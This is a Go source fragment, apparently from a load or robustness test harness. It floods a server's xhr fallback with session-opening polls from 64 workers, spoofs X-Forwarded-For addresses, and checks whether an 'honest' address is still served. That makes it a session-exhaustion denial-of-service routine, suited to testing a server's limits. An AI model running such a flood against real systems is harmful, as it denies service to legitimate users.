package main

import (
	"bytes"
	"context"
	"fmt"
	"io"
	"net/http"
	"strings"
	"sync/atomic"
	"time"
)

// open polls for a session that is not there yet, as a proxy would have done it
// for somebody else, and says whether there is one now.
func (t *target) open(ctx context.Context, client *http.Client, address, session string) bool {
	url := "http://" + t.addr + session + "/xhr?protocol=7&client=attack&version=1"
	req, err := http.NewRequestWithContext(ctx, http.MethodPost, url, strings.NewReader(""))
	if err != nil {
		return false
	}
	req.Header.Set("X-Forwarded-For", address)
	res, err := client.Do(req)
	if err != nil {
		return false
	}
	text, err := io.ReadAll(res.Body)
	_ = res.Body.Close()
	// A line that begins with a c closes the session.
	return err == nil && res.StatusCode == http.StatusOK && !bytes.Contains(text, []byte("c["))
}

// sessions opens sessions of a fallback below a path, each by one poll that is
// answered at once, and meanwhile looks whether somebody else gets one.
func sessions(path string) func(context.Context, *target) (string, error) {
	return func(ctx context.Context, t *target) (string, error) {
		client := &http.Client{Transport: &http.Transport{MaxIdleConnsPerHost: 64}}
		defer client.CloseIdleConnections()
		var next, opened, refused, honest, turnedAway atomic.Int64
		most := int64(t.of(100_000))
		go func() {
			for ctx.Err() == nil {
				if t.open(ctx, client, "198.51.100.7", fmt.Sprintf("%s/999/h%07d", path, next.Add(1))) {
					honest.Add(1)
				} else if ctx.Err() == nil {
					turnedAway.Add(1)
				}
				time.Sleep(100 * time.Millisecond)
			}
		}()
		each(64, func(int) error {
			for ctx.Err() == nil {
				n := next.Add(1)
				if n > most {
					break
				}
				if t.open(ctx, client, fmt.Sprintf("203.0.113.%d", n%4), fmt.Sprintf("%s/%03d/s%07d", path, n%1000, n)) {
					opened.Add(1)
				} else if ctx.Err() == nil {
					refused.Add(1)
				}
			}
			<-ctx.Done()
			return nil
		})
		return fmt.Sprintf("%d sessions opened, %d refused; an honest address got %d, and not %d", opened.Load(), refused.Load(),
			honest.Load(), turnedAway.Load()), nil
	}
}
